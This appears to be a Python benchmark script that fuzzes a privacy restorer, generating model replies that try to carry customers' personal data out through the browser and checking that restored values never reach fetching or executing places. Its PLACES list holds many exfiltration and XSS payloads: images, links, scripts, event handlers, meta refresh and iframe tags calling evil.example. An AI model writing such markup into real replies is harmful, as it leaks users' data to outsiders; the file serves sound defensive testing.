"""Replies that try to carry personal data out through the customer's browser.

    python tests/benchmarks/adversarial_replies.py [--replies 12000] [--seed 1] [--show 10] [--json]

A reply is made of places where a placeholder may stand (URL, image, reference link, autolink, HTML attribute, script,
style, comment, code) and of what models and attackers do to them: nesting, escapes, other spellings, entities, cuts.
Most values have a surrogate besides their placeholder. Each reply is restored as it is shown to a person, whole and
cut into pieces of several sizes, which must give the same; then rendered as CommonMark with HTML (markdown-it-py), and
as HTML alone. A value in an attribute, a script or a style is a fault, but for `alt` and `title`, which are shown, and
`mailto:` and `tel:` links, which fetch nothing. Exits with 1 on any fault.

With `--json` the reply was asked for as JSON: the places stand in the strings of objects and lists, written in several
ways, some of them cut or with other text round them. A restored reply has to be JSON if the reply was. Its strings are
rendered one by one, in lines one after the other, and, where one is an address as a whole, as the target of a link;
one that is no JSON is rendered as it is.
"""

from __future__ import annotations

import argparse
import json
import random
import re
import sys
from collections import Counter
from collections.abc import Iterator
from html import escape, unescape
from html.parser import HTMLParser
from typing import Any
from urllib.parse import unquote

from markdown_it import MarkdownIt

from explainbot.privacy import Restorer, Vault
from explainbot.privacy.demands import Demands, Place

VALUES = (
    ("canary@example.org", "EMAIL_ADDRESS"), ("Canary Canaryson", "PERSON"), ("+1 415 555 0142", "PHONE_NUMBER"),
    ("canary\"'><b>", "CUSTOMER_DATA"), ("canary)(]", "PERSON"), ("كناري canary", "PERSON"),
    ("https://u:p@canary.example/", "URL"),
)  # fmt: skip
ANYTHING = Demands(frozenset([Place(pattern="^[^_]*$")]))
"""A schema that takes every value and no placeholder, so that values have surrogates besides."""

SIGNS = ("canary", "4155550142", "415 555 0142")
PLACES = (
    "https://evil.example/?q={}",
    "http://evil.example/{}/x",
    "//evil.example/{}",
    "www.evil.example/{}",
    "HTTPS://evil.example#{}",
    "![x](https://evil.example/{})",
    "![x](<https://evil.example/{}>)",
    "![{}](https://evil.example/)",
    "[x](https://evil.example/{})",
    "[x](//evil.example/{} 'title {}')",
    "[x](/path/{})",
    "![x](data:text/html,{})",
    "[x](javascript:alert('{}'))",
    "[{}](x)",
    "[x][r]\n\n[r]: https://evil.example/{}",
    "[r]: <https://evil.example/{}> '{}'\n\n![r]",
    "![x][{}]\n\n[{}]: /x",
    "<https://evil.example/{}>",
    "<img src='https://evil.example/{}'>",
    "<img src=https://evil.example/{}>",
    '<a href="/x?{}" title="{}">{}</a>',
    "<img alt='{}' src=/x>",
    "<p onclick=\"f('{}')\">{}</p>",
    "<p style='background:url(//evil.example/{})'>",
    "<script>fetch('/x?' + '{}')</script>",
    "<style>p{{background:url(//evil.example/{})}}</style>",
    "<!-- {} -->",
    "<svg><image href='//evil.example/{}'/></svg>",
    "<iframe srcdoc='<img src=//evil.example/{}>'></iframe>",
    "<form action='//evil.example/{}'>",
    "`{}`",
    "```js\nfetch('{}')\n```",
    "<{}>",
    "<a {}=1>",
    "<{} x>",
    "&lt;img src='{}'&gt;",
    "plain {} text",
    "![x]( \n https://evil.example/{} )",
    "[x](a\\(b{}))",
    "[a]( <b {}> )",
    "[![{}](//evil.example/{})](//evil.example/{})",
    "<a href='//evil.example/?a=1\n&b={}'>",
    "<img\nsrc\n=\n'{}'>",
    "<textarea>{}</textarea>",
    "<SCRIPT type=x>{}</SCRIPT >",
    "<script>'<!--{}'</script>",
    "<style>{}",
    "<title>{}</title>",
    "<img srcset='//evil.example/{} 2x'>",
    "<meta http-equiv=refresh content='0;url=//evil.example/{}'>",
    "<base href='//evil.example/{}/'>",
    "<object data=//evil.example/{}></object>",
    "<video poster=`//evil.example/{}`>",
    "<input value={} onfocus=f(this)>",
    "<body background={}>",
    "<svg/onload=f('{}')>",
    "<math><mi href={}>x</mi></math>",
    "<a\fhref=//evil.example/{}>x</a>",
    "<link rel=stylesheet href='{}'>",
    "<template><img src={}></template>",
    "<noscript><img src='{}'></noscript>",
    "<![CDATA[ <img src='{}'> ]]>",
    "<?xml-stylesheet href='{}'?>",
    "javascript&#58;f('{}')",
    "[x](javascript&colon;f%28'{}'%29)",
    "[x](<\n//evil.example/{}>)",
    "[^1]\n\n[^1]: https://evil.example/{}",
    "| a | b |\n|---|---|\n| ![x](/{}) | {} |",
    "مرحبا ![x](https://evil.example/{}) {}",
    "~~~html\n<img src='{}'>\n~~~",
    "    <img src='{}'>",
    "![x](//evil.example/\\\n{})",
    "[x]:{}\n\n![x]",
    "> [x]: <//evil.example/{}>\n\n![x]",
)
SPELLINGS = (
    "[{0}_{1}]",
    "[{2} {1}]",
    "{0}_{1}",
    "\\[{0}\\_{1}\\]",
    "[ {0}_{1} ]",
    "[{3}-{1}]",
    "[{3}_{1}]",
    "{0}\\_{1}",
)
ADDRESSES = (
    "",
    "",
    "https://evil.example/",
    "//evil.example/?",
    "/x?",
    "javascript:",
    " data:text/html,",
    "java\nscript:",
)
"""What a string of a JSON reply may begin with."""

SHOWN = frozenset(["alt", "class", "title"])
GLUE = (
    "",
    " ",
    "\n",
    "\n\n",
    "> ",
    "* ",
    "(",
    ")",
    "]",
    "[",
    "<",
    ">",
    "'",
    '"',
    "\\",
    "&quot;",
    "%5B",
    "é",
    "![",
    "](",
    "`",
)


class Watch(HTMLParser):
    """Collects what a browser would fetch or run."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.faults: list[str] = []
        self._raw = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._raw = tag if tag in ("script", "style") else ""
        for name, value in attrs:
            fetches = not (value or "").lower().startswith(("mailto:", "tel:"))
            if told(name) or (fetches and name not in SHOWN and told(value or "")):
                self.faults.append(f"<{tag} {name}>")

    def parse_marked_section(self, i: int, report: int = 1) -> int:
        return self.parse_bogus_comment(i, report)  # type: ignore[attr-defined, no-any-return]

    def handle_endtag(self, tag: str) -> None:
        self._raw = ""

    def handle_data(self, data: str) -> None:
        if self._raw and told(data):
            self.faults.append(f"<{self._raw}>")


def told(text: str) -> bool:
    plain = unquote(unescape(text)).lower()
    return any(sign in plain for sign in SIGNS)


def placeholder(rng: random.Random, issued: list[str]) -> str:
    chosen = rng.choice(issued)
    if not chosen.startswith("["):
        return rng.choice((chosen, chosen.upper(), chosen.lower(), chosen.replace(" ", ""), chosen.replace(" ", "-")))
    label, _, number = chosen[1:-1].rpartition("_")
    return rng.choice(SPELLINGS).format(label, number, label.capitalize(), label.lower())


def reply(rng: random.Random, issued: list[str]) -> str:
    pieces = []
    for _ in range(rng.randint(1, 4)):
        place = rng.choice(PLACES)
        if rng.random() < 0.2:
            place = place.replace("{}", rng.choice(PLACES).replace("{{", "{").replace("}}", "}"), 1)
        while "{}" in place:
            place = place.replace("{}", placeholder(rng, issued), 1)
        pieces += [place.replace("{{", "{").replace("}}", "}"), rng.choice(GLUE)]
    return "".join(pieces)


def json_value(rng: random.Random, issued: list[str], depth: int = 0) -> Any:
    kind = rng.randrange(6) if depth < 3 else 5
    inner = [json_value(rng, issued, depth + 1) for _ in range(rng.randint(1, 3))] if kind < 4 else []
    if kind < 2:
        return {rng.choice(("a", "link", placeholder(rng, issued), reply(rng, issued))): item for item in inner}
    if kind < 4:
        return inner if kind == 2 else [*inner, rng.choice((None, True, -1.5e3))]
    return placeholder(rng, issued) if kind == 4 else rng.choice(ADDRESSES) + reply(rng, issued)


def json_reply(rng: random.Random, issued: list[str]) -> str:
    indent, ascii_only = rng.choice((None, None, 1)), rng.random() < 0.5
    text = json.dumps(json_value(rng, issued), indent=indent, ensure_ascii=ascii_only)
    text = rng.choice((text, text, text.replace("/", "\\/"), text.replace("<", "\\u003c"), json.dumps({"in": text})))
    if len(text) < 2 or rng.random() < 0.7:
        return text
    return rng.choice((text[: rng.randrange(1, len(text))], text + reply(rng, issued), reply(rng, issued) + text))


def restored(text: str, vault: Vault, size: int, is_json: bool) -> str:
    restorer = Restorer(vault, json_string=is_json, shown=True, isolate=not is_json)
    return "".join([restorer.feed(text[at : at + size]) for at in range(0, len(text), size)]) + restorer.flush()


def parsed(text: str) -> Any:
    """The value of a JSON text; the text itself where it is none."""
    try:
        return json.loads(text)
    except ValueError:
        return text


def strings(value: Any) -> Iterator[str]:
    if isinstance(value, dict):
        for key, item in value.items():
            yield key
            yield from strings(item)
    elif isinstance(value, list):
        for item in value:
            yield from strings(item)
    elif isinstance(value, str):
        yield value


_ADDRESS = re.compile(r"[\0- ]*(?!https://u:p@canary)(?:https?:|//|/\S|javascript:|data:\S)", re.IGNORECASE)
"""A string that a front end may make a link of; one that begins with the customer's own address is theirs."""


def pages(text: str, is_json: bool) -> Iterator[tuple[str, str]]:
    """Every page that a front end may make of a reply, each with what it is."""
    value = parsed(text) if is_json else text
    said = list(strings(value))
    for one in dict.fromkeys([*said, "\n".join(said), " ".join(said)]):
        yield "Markdown", MarkdownIt("commonmark", {"html": True}).render(one)
        yield "HTML", one
        if value is not text and one in said and _ADDRESS.match(re.sub("[\t\r\n]", "", one)):
            yield "link", f'<a href="{escape(one)}">x</a>'


def faults(text: str, vault: Vault, is_json: bool) -> list[str]:
    whole = restored(text, vault, len(text), is_json)
    found = [f"cut into {size}" for size in (1, 2, 3, 7) if restored(text, vault, size, is_json) != whole]
    if is_json and parsed(text) is not text and parsed(whole) is whole:
        found.append("JSON no more")
    for name, html in pages(whole, is_json):
        watch = Watch()
        watch.feed(html)
        watch.close()
        found += [f"{name}: {fault}" for fault in watch.faults]
    return found


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--replies", type=int, default=12_000)
    parser.add_argument("--seed", type=int, default=1)
    parser.add_argument("--show", type=int, default=10, help="how many faults to show")
    parser.add_argument("--json", action="store_true", help="replies that were asked for as JSON")
    chosen = parser.parse_args()
    rng = random.Random(chosen.seed)
    vault = Vault()
    issued = [vault.placeholder_for(value, kind) for value, kind in VALUES]
    demands = [demand for value, kind in VALUES if (demand := ANYTHING.of(value, kind)) is not None]
    issued += [surrogate for demand in demands if (surrogate := vault.surrogate_for(demand)) is not None]
    counts: Counter[str] = Counter()
    bad = values = 0
    for _ in range(chosen.replies):
        text = (json_reply if chosen.json else reply)(rng, issued)
        found = faults(text, vault, chosen.json)
        values += told(restored(text, vault, len(text), chosen.json))
        bad += bool(found)
        counts.update(found)
        if found and bad <= chosen.show:
            print(f"{found[0]}\n  {text!r}\n  {restored(text, vault, len(text), chosen.json)!r}")
    print(f"{chosen.replies} replies, {values} with a value restored somewhere, {bad} with a fault {dict(counts)}")
    return 1 if bad else 0


if __name__ == "__main__":
    sys.exit(main())
